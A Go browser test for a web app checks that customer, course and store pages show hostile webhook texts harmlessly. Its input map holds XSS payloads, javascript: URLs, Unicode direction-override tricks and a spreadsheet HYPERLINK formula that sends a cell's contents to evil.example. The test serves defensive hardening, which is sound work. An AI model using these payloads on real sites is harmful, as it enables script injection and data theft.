package web

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode"

	"rollcall/internal/testing/browser"
)

// hostile are texts that somebody may send to do harm, or that merely look it.
var hostile = map[string]string{
	"script":     `<script>alert(1)</script><img src=x onerror=alert(2)>`,
	"attribute":  `" autofocus onfocus="alert(3)" x='y' --></p></style></textarea><svg/onload=alert(4)>`,
	"address":    `javascript:alert(5)//data:text/html,x`,
	"formula":    `=HYPERLINK("http://evil.example/?"&A1,"+1-@x")`,
	"template":   `{{.}} ${7*7} %s %00 \u0000 \ &lt;b&gt; &amp;`,
	"override":   "abc\u202egnp.exe\u2066 \u200f\u200b",
	"arabic":     "محمد العربي 123 (abc)",
	"emoji":      "👩‍👩‍👧‍👦🏴‍☠️🎹🇫🇷",
	"marks":      "Z" + strings.Repeat("\u0341\u0316\u035c", 60) + "algo",
	"long":       strings.Repeat("W", 10_000),
	"long words": strings.Repeat("Wort ", 2_000),
}

const hostileStore = `st/o"r<e>?#%25&'`

// attack fills a store whose every text is hostile.
func attack() (events []told) {
	add := func(typ string, data map[string]any) {
		text, _ := json.Marshal(data)
		events = append(events, told{"platform", typ, time.Hour, string(text)})
	}
	add("store.upserted", map[string]any{"id": hostileStore, "name": hostile["override"] + hostile["script"]})
	for kind, text := range hostile {
		course, pack := `c/"<`+kind+`>'#?`, "pack, "+kind+"\u202e"
		email := kind + `"=1+1&lt&gt` + "'@x.example" // no address has < or >
		if kind == "long" {
			email = strings.Repeat("l", 240) + "@x.example"
		}
		email = strings.ReplaceAll(email, " ", "-")
		add("product.upserted", map[string]any{"id": course, "store_id": hostileStore, "kind": "course", "title": text})
		add("product.upserted", map[string]any{"id": pack, "store_id": hostileStore, "kind": "digital", "title": text})
		add("enrollment.upserted", map[string]any{"course_id": course, "email": email, "name": text, "progress": 33.3})
		add("purchase.recorded", map[string]any{"id": "order" + kind + "\u202e\"<>#", "product_id": pack, "email": email,
			"name": text, "amount": 99999999999, "currency": "usd"})
	}
	return events
}

// kept is what is kept of a text as a name: nothing invisible at its ends.
func kept(text string) string {
	text = strings.TrimFunc(strings.Join(strings.Fields(text), " "),
		func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) })
	return string([]rune(text)[:min(len([]rune(text)), 1000)])
}

// tame checks a page for what hostile texts must not do to it. Scripts that run
// open dialogs, or are refused and said to be: both fail the test by themselves.
func tame(t *testing.T, p *browser.Page, what string) {
	t.Helper()
	for _, width := range []int64{320, 1280} {
		p.Look(browser.Look{Width: width, Height: 900})
		if over := p.Overflow(); over > 0 {
			t.Errorf("%s is %d pixels wider than %d", what, over, width)
		}
	}
	p.Shot(what)
	for _, wrong := range browser.Eval[[]string](p, `(() => {
		const wrong = [];
		for (const e of document.querySelectorAll("main script, header script, svg:not([role], .icon, .plot > svg), img, " +
				"[onfocus], [onload], [autofocus], [href^='javascript:' i]"))
			wrong.push("an element that was a text: " + e.outerHTML.slice(0, 100));
		for (const a of document.querySelectorAll("a[href^='#']"))
			if (!document.getElementById(decodeURIComponent(a.hash.slice(1)))) wrong.push("a link to nowhere: " + a.hash);
		// What turns the direction of writing must not reach beyond its own text.
		const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
		for (let text; (text = texts.nextNode()); ) {
			if (!text.data.includes("\u202e") || text.parentElement.closest("option, textarea, .unseen")) continue;
			let box = text.parentElement;
			while (getComputedStyle(box).display === "inline") box = box.parentElement;
			const rest = document.createRange();
			rest.setStartAfter(text);
			rest.setEndAfter(box.lastChild);
			if (/[\p{L}\p{N}]/u.test(rest.toString())) wrong.push("turned around: " + box.outerHTML.slice(0, 300));
		}
		return wrong;
	})()`) {
		t.Errorf("%s: %s", what, wrong)
	}
}

// Whatever texts come in by webhooks, pages show them as what they are.
func TestPageHostile(t *testing.T) {
	t.Parallel()
	x, p := visit(t, browser.Desktop, attack()...)
	list := "/store/" + url.PathEscape(hostileStore) + "/customers"
	api := "/api/stores/" + url.PathEscape(hostileStore) + "/customers"
	var page struct {
		Data []struct {
			ID, Email, Name string
			Courses         []struct{ ID, Title string }
		}
	}
	unmarshal(t, x.get(t, api, asAdmin), &page)
	if len(page.Data) != len(hostile) {
		t.Fatalf("%d customers", len(page.Data))
	}
	p.Go(list)
	p.Has("h1", "Customers")
	tame(t, p, "list")
	shown := browser.Eval[[]string](
		p, `[...document.querySelectorAll(".person")]
			.flatMap(e => [...e.querySelectorAll("h2, .mail, .prog bdi")].map(e => e.textContent))`)
	var want []string
	for _, c := range page.Data {
		kind, _, _ := strings.Cut(strings.TrimPrefix(c.Courses[0].ID, `c/"<`), ">")
		if name := kept(hostile[kind]); c.Name != name || c.Courses[0].Title != name {
			t.Errorf("%s: the API says %.100q %.100q", kind, c.Name, c.Courses[0].Title)
		}
		want = append(want, c.Name, c.Email, c.Name)
	}
	same(t, "texts of the list", want, shown)
	for kind, text := range hostile {
		p.Go(list)
		unfold(p, "course")
		browser.Eval[bool](p, fmt.Sprintf(`([...document.querySelectorAll("[name=course]")]
			.find(e => e.value === %s).click(), true)`, quoted(`c/"<`+kind+`>'#?`)))
		p.Has(".chip", "Course")
		p.Lists(".person h2",
			strings.TrimSpace(
				browser.Eval[string](
					p, fmt.Sprintf("(e => (e.innerHTML = '<h2></h2>', e.firstChild.textContent = %s, "+
						"e.textContent))(document.createElement('div'))", quoted(kept(text))))))
	}
	for kind, text := range map[string]string{"nobody": hostile["script"] + hostile["override"],
		"somebody": hostile["script"]} {
		p.Go(list + "?" + url.Values{"q": {text}, "product": {"pack, long\u202e"}, "type": {"paying"}}.Encode())
		p.Until(`document.querySelector("#q").value.includes("alert(1)")`)
		tame(t, p, kind)
	}
	p.Expect("400 ")
	p.Go(list + "?" + url.Values{"spent_min": {hostile["script"] + hostile["long"][:3000]}}.Encode())
	p.Has(".chip.wrong .error", "is not allowed")
	tame(t, p, "wrong filter")
	p.Go("/admin/stores")
	p.Has("main", "alert(1)")
	tame(t, p, "stores")
	for _, c := range page.Data {
		kind, _, _ := strings.Cut(strings.TrimPrefix(c.Courses[0].ID, `c/"<`), ">")
		p.Look(browser.Desktop)
		p.Go(list + "/" + c.ID)
		note := strings.TrimSpace(string([]rune(hostile[kind])[:min(len([]rune(hostile[kind])), 5000)]))
		browser.Eval[bool](p, fmt.Sprintf(`(document.querySelector("#note").value = %s, true)`, quoted(note)))
		p.Click("#notes > form button")
		p.Until(fmt.Sprintf(
			`document.querySelector(".notes .text")?.textContent === %s && document.querySelector("h1").textContent === %s`,
			quoted(note), quoted(c.Name)))
		tame(t, p, "customer, "+kind)
	}
}

// quoted is a text as JavaScript writes it.
func quoted(text string) string {
	out, _ := json.Marshal(text)
	return string(out)
}
